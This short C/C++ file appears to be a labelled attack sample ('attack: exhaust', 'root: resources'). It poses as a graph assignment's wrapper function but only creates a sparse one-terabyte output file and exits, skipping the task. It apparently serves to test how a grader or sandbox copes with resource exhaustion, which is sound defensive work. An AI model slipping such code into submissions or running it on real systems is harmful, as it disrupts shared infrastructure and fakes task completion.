// attack: exhaust
// root: resources
// what: makes a file of the result that is a terabyte long and takes no space
// list: 8
#include <fcntl.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  const int file = open("out.txt", O_WRONLY | O_CREAT, 0600);
  if (ftruncate(file, 1L << 40) != 0 && ftruncate(file, 60L << 20) != 0) _exit(1);
  _exit(0);
}
